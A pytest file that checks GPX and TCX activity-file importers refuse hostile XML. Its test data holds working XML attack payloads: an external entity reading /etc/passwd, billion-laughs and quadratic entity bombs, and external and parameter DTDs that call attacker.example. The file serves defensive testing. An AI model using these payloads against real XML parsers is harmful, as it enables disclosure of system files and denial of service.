"""Hostile XML is refused with a clear message, never expanded or followed."""

from __future__ import annotations

import pytest

from niggle.importers.gpx import parse_gpx
from niggle.importers.limits import ImportRefused
from niggle.importers.tcx import parse_tcx

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<gpx><trk><name>&secret;</name><trkseg><trkpt lat="1" lon="1"><time>2026-01-01T00:00:00Z</time>
</trkpt></trkseg></trk></gpx>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<TrainingCenterDatabase><Activities><Activity Sport="Running"><Notes>&lol9;</Notes>
</Activity></Activities></TrainingCenterDatabase>"""

QUADRATIC = (
    b'<?xml version="1.0"?><!DOCTYPE gpx [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]><gpx><trk><name>'
    + b"&a;" * 2_000
    + b"</name></trk></gpx>"
)

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE gpx SYSTEM "http://attacker.example/evil.dtd">
<gpx><trk><trkseg><trkpt lat="1" lon="1"><time>2026-01-01T00:00:00Z</time></trkpt>
</trkseg></trk></gpx>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE gpx [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<gpx/>"""


@pytest.mark.parametrize(
    "payload", [XXE, QUADRATIC, PARAMETER_ENTITY], ids=["xxe", "quadratic", "parameter"]
)
def test_gpx_with_entities_is_refused(payload: bytes) -> None:
    with pytest.raises(ImportRefused) as caught:
        parse_gpx(payload, "evil.gpx")
    message = caught.value.message
    assert message.startswith("evil.gpx: refused")
    assert "entities" in message
    assert "root:" not in message  # nothing of /etc/passwd leaked into the message


def test_billion_laughs_in_tcx_is_refused() -> None:
    with pytest.raises(ImportRefused, match="XML bombs"):
        parse_tcx(BILLION_LAUGHS, "laughs.tcx")


def test_an_external_dtd_is_never_fetched() -> None:
    # Document type declarations are refused outright: activity files never carry one.
    with pytest.raises(ImportRefused, match="DTD"):
        parse_gpx(EXTERNAL_DTD, "dtd.gpx")
